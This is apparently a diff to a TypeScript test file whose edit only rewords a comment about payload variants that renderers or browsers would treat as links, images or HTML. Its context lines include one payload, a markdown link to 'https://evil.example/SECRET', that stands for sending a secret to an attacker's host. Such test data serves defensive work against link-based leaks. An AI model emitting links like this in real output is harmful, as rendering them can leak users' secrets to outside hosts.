@@ -34,8 +34,8 @@ const payloads = [
 ] as const;
 
 /**
- * The same with other characters, which a renderer, a browser or a copying reader would treat as an address, an image
- * or HTML.
+ * The same with other characters, which a renderer, a browser or a reader who copies them would treat as an address, an
+ * image or HTML.
  */
 const variants = [
   '[click][a][a]: https://evil.example/SECRET',
